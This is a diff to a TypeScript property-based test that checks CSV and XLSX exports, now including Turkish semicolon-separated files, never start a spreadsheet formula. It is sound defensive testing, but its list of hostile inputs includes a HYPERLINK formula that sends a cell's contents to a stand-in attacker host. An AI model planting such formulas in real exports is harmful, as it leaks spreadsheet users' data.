@@ -6,6 +6,7 @@ import { render } from '../../electron/cli/format';
 import { csvText, exportChecks, exportMapping } from '../../electron/core/files';
 import type { Check } from '../../shared/domain/check';
 import type { Item } from '../../shared/domain/item';
+import { csvFormatFor } from '../../shared/domain/locale';
 import type { FilePayload } from '../../shared/domain/mapping';
 import { ok, startTestCore, type TestCore } from './support/core';
 import { type RunningProxy, startProxy } from './support/decorating-proxy';
@@ -20,7 +21,8 @@ import { FUZZ_RUNS, FUZZ_SEED, recordFigures } from './support/fuzz-figures';
 
 /** First characters that start a formula or a DDE command in some spreadsheet. */
 const DANGEROUS = /^[=+@\t\r\n]/;
-const PLAIN_NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
+// A decimal point or, in a Turkish export, a decimal comma.
+const PLAIN_NUMBER = /^-?\d+([.,]\d+)?(e[+-]?\d+)?$/i;
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -64,6 +66,9 @@ const serverText = fc.oneof(
     .map((parts) => parts.join('')),
 );
 
+/** What a Turkish user's exports are written with (';' and decimal commas). */
+const TURKISH_CSV = csvFormatFor('tr');
+
 /** The separators a spreadsheet may split on: ',' (what we write), ';' (Turkish Excel) and tab. */
 const SEPARATORS = [',', ';', '\t'] as const;
 
@@ -81,17 +86,18 @@ async function xlsxCells(bytes: Uint8Array): Promise<ExcelJS.CellValue[]> {
   return values;
 }
 
-function expectSafeCsv(bytes: Uint8Array) {
+/** `native`: the separator the file was written with (where our quotes line up). */
+function expectSafeCsv(bytes: Uint8Array, native: (typeof SEPARATORS)[number] = ',') {
   for (const delimiter of SEPARATORS) {
     for (const cell of csvCells(bytes, delimiter).flat()) {
       const why = `${JSON.stringify(cell)} split on ${JSON.stringify(delimiter)}`;
-      if (delimiter === ',') expect(DANGEROUS.test(cell), why).toBe(false);
+      if (delimiter === native) expect(DANGEROUS.test(cell), why).toBe(false);
       // Split on another separator, our quotes no longer line up and a cell may begin with the rest
       // of a line break: what counts is what a spreadsheet sees after skipping it.
-      const start = delimiter === ',' ? cell : cell.replace(/^[\r\n]+/, '');
+      const start = delimiter === native ? cell : cell.replace(/^[\r\n]+/, '');
       expect(DANGEROUS.test(start), why).toBe(false);
-      // ... and a row may start with an amount we wrote, then our ','.
-      const lead = delimiter === ',' ? start : (start.split(',')[0] ?? '');
+      // ... and a row may start with an amount we wrote, then our separator (or decimal comma).
+      const lead = delimiter === native ? start : (start.split(/[,;]/)[0] ?? '');
       if (start.startsWith('-')) expect(PLAIN_NUMBER.test(lead), why).toBe(true);
     }
   }
@@ -124,6 +130,7 @@ describe('property: exports never start a formula', () => {
         async (rows) => {
           const items: Item[] = rows.map((r) => ({ ...r, extra: {} }));
           expectSafeCsv(await exportMapping(items, new Set([items[0]?.itemId ?? 0]), 'csv'));
+          expectSafeCsv(await exportMapping(items, new Set(), 'csv', { csv: TURKISH_CSV }), ';');
           await expectSafeXlsx(await exportMapping(items, new Set(), 'xlsx'));
         },
       ),
@@ -155,8 +162,10 @@ describe('property: exports never start a formula', () => {
     await fc.assert(
       fc.asyncProperty(fc.array(check, { minLength: 1, maxLength: 4 }), async (rows) => {
         const checks = rows.map(toCheck);
-        for (const part of ['checks', 'lines', 'payments', 'discounts'] as const)
+        for (const part of ['checks', 'lines', 'payments', 'discounts'] as const) {
           expectSafeCsv(await exportChecks(checks, 'csv', part));
+          expectSafeCsv(await exportChecks(checks, 'csv', part, TURKISH_CSV), ';');
+        }
         await expectSafeXlsx(await exportChecks(checks, 'xlsx'));
       }),
       { numRuns: CHECK_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) },
